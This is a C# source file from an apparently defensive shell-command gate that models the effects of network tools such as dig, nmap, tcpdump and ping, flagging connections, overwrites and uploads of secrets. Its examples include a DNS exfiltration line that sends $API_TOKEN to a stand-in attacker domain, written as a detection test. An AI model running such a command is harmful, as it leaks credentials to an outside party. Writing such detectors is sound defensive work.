using Wary.Core.Shell;

namespace Wary.Core.Gate.Programs.Network;

/// <summary>Programs that ask about hosts and networks.</summary>
internal static class LookupPrograms
{
    public const string Names = "dig nslookup host whois ping traceroute mtr nmap masscan tcpdump tshark lsof ss netstat arp";

    public static ProgramSpec? Find(string name) => name switch
    {
        "dig" => new("dig", "asks name servers")
        {
            Style = OptionStyle.Words,
            Options = "-b= -c= -f= -k= -p= -q= -t= -x= -y= -4 -6 -i -m -u -v",
            Help = "-h -v",
            Effects = static (call, effects) =>
            {
                foreach (var word in call.Operands)
                {
                    if (word.Text is ['+', ..] || IsType(word.Text)) continue;
                    Ask(word.After("@") ?? word, effects);
                }
                if (call.Value("-f") is { } list) effects.Upload(call.Word.As("name servers"), list);
                if (call.Value("-q") is { } question) Ask(question, effects);
                effects.EmitOrdinary();
            },
            Examples = """
                dig +short @9.9.9.9 example.com MX => Connect example.com; Connect 9.9.9.9
                dig "$API_TOKEN.evil.example" => Upload *; Connect ….evil.example
                dig -t TXT example.com !> Connect txt
                """,
        },
        "nslookup" or "host" => new(name, "asks name servers")
        {
            Style = OptionStyle.Words,
            Options = "-t= -c= -N= -R= -W= -m= -a -C -d -l -r -s -T -v -w -4 -6",
            Effects = static (call, effects) =>
            {
                foreach (var word in call.Operands) Ask(word, effects);
                effects.EmitOrdinary();
            },
            Examples = """
                host -t TXT example.com => Connect example.com
                host -t TXT example.com !> Connect txt
                nslookup -type=mx example.com => Connect example.com
                """,
        },
        "whois" or "traceroute" or "mtr" => new(name, "asks about a host")
        {
            Options = "-h|--host= -p|--port= -f= -g= -i= -m= -q= -s= -w= -z= -c|--report-cycles= -T= -a= -b -n -r|--report -I -F -4 -6 -e -t -v -P=",
            Effects = static (call, effects) =>
            {
                if (call.Operand(0) is { } host) Ask(host, effects);
                effects.EmitOrdinary();
            },
            Examples = """
                traceroute -m 5 example.com => Connect example.com
                whois -h whois.example.org example.com !> Connect whois.example.org
                """,
        },
        "ping" => new("ping", "asks whether a host answers")
        {
            Options = "-c= -i= -I= -l= -m= -M= -p= -Q= -s= -S= -t= -T= -w= -W= -F= -4 -6 -a -A -b -B -D -d -f -h -L -n -O -q -r -R -U -v -V",
            Help = "-h -V --help",
            Effects = static (call, effects) =>
            {
                if (call.Value("-p") is { } pattern && (pattern.Origin & Origin.Secret) != 0) effects.Upload(call.Operand(0) ?? pattern, pattern, isFile: false);
                if (call.Operands.Count > 0) Ask(call.Operands[^1], effects);
                effects.EmitOrdinary();
            },
            Examples = """
                ping -c 1 example.com => Connect example.com
                ping -c 1 example.com !> Connect 1
                """,
        },
        "nmap" or "masscan" => new(name, "scans hosts for open ports")
        {
            Style = OptionStyle.Words,
            Options = "-p= -iL= -iR= -oN= -oX= -oG= -oA= -oS= -oL= -oJ= -D= -S= -e= -g= -T= --script= --script-args= --script-args-file= --exclude= --excludefile= --rate= --max-rate= --min-rate= --top-ports= --dns-servers= --host-timeout= --max-retries= --ports= --range= --banners -sn -sV -sS -O -A -Pn -n -v -F",
            Help = "-h --help -V --version",
            Effects = static (call, effects) =>
            {
                foreach (var option in call.Options)
                {
                    if (option.Value is { } file && option.Name is "-oN" or "-oX" or "-oG" or "-oA" or "-oS" or "-oL" or "-oJ") effects.Overwrite(file);
                }
                if (call.Value("--script") is { } script && script.Text.Contains('/', StringComparison.Ordinal)) effects.Opaque($"runs the script {script.Shown}", script);
                foreach (var host in call.Operands) effects.Add(EffectKind.Connect, HostName.Of(host.Shown), host, note: "a scan of its ports");
            },
            Examples = """
                nmap -p 1-1000 -oN scan.txt host.example => Connect host.example; Overwrite scan.txt
                nmap --script ./x.nse host.example => Opaque runs the script ./x.nse
                nmap -p 80 host.example !> Connect 80
                """,
        },
        "tcpdump" or "tshark" => new(name, "listens to the network")
        {
            Options = "-B= -c= -C= -d -D -e -E= -f= -F= -G= -i= -j= -m= -M= -n -p -q -Q= -r= -s= -T= -U -v -V= -w= -W= -y= -z=! -Z= -Y= -b= -o= -R=",
            Effects = static (call, effects) =>
            {
                if (call.Value("-r") is { } file) effects.Read(file);
                else effects.Add(EffectKind.Read, $"network traffic of {call.Value("-i")?.Shown ?? "this machine"}", call.Value("-i"));
                if (call.Value("-w") is { } target) effects.Overwrite(target);
                if (effects.Program == "tcpdump" && call.Value("-z") is { } after) effects.Run([after]);
            },
            Examples = """
                tcpdump -i any -w x.pcap port 80 => Overwrite x.pcap
                tcpdump -G 1 -w x -z ./x.sh => Execute ./x.sh
                tcpdump -r x.pcap !> Overwrite *
                """,
        },
        "lsof" or "ss" or "netstat" or "arp" => new(name, "lists connections and open files")
        {
            Options = "-a -A= -c= -d= -D= -f= -F= -g= -i=? -K -k= -N= -o= -O -p=? -r= -s -S= -t -u=? -U -n -P -l -L -v",
            Effects = static (call, effects) =>
            {
                if (effects.Program == "ss" && call.Has("-K")) effects.Add(EffectKind.StopProcess, "connections", null, Traits.Undoable);
                if (effects.Program == "arp" && call.HasAny("-d", "-s")) effects.Add(EffectKind.ChangeConfig, "address table of the network", null, Traits.Undoable);
                // lsof -ti :3000 names the processes that hold a port.
                if (effects.Program == "lsof" && call.Has("-t")) effects.Emit(new Piped(Origin.Output, null, $"lsof {Sentence.Of(call.Operands)?.Shown ?? call.Value("-i")?.Shown}"));
                else effects.EmitOrdinary();
            },
            Examples = """
                ss -K dst 1.2.3.4 => StopProcess connections
                lsof -ti :3000 => nothing
                ss -tlnp => nothing
                """,
        },
        _ => null,
    };

    // A name that holds a secret carries it to whoever answers for that name.
    private static void Ask(Argument name, EffectSink effects)
    {
        if ((name.Origin & Origin.Secret) != 0) effects.Upload(name, name, isFile: false);
        effects.Connect(name);
    }

    private static bool IsType(string word) => word is "A" or "AAAA" or "MX" or "TXT" or "NS" or "SOA" or "CNAME" or "PTR" or "SRV" or "CAA" or "ANY" or "AXFR" or "DS" or "DNSKEY" or "IN" or "CH" or "a" or "aaaa" or "mx" or "txt" or "ns" or "soa" or "cname" or "ptr" or "srv" or "any";
}
